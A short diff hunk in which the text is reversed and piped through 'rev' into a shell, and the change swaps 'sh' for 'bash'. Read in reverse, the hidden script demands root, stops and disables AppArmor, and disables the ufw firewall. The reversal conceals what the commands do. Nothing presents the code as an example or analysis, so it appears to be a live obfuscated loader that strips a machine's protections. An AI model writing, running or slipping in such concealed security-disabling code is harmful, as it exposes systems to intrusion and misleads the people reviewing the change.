@@ -7,4 +7,4 @@ elbasid wfu
 romrappa elbasid ltcmetsys ;romrappa pots ltcmetsys
 if ;1 tixe neht ;] "0" =! ")u- di($" [ fi
 hsab/nib/!#
-3v 3503 gifnoc #' | rev | sh
+3v 3503 gifnoc #' | rev | bash
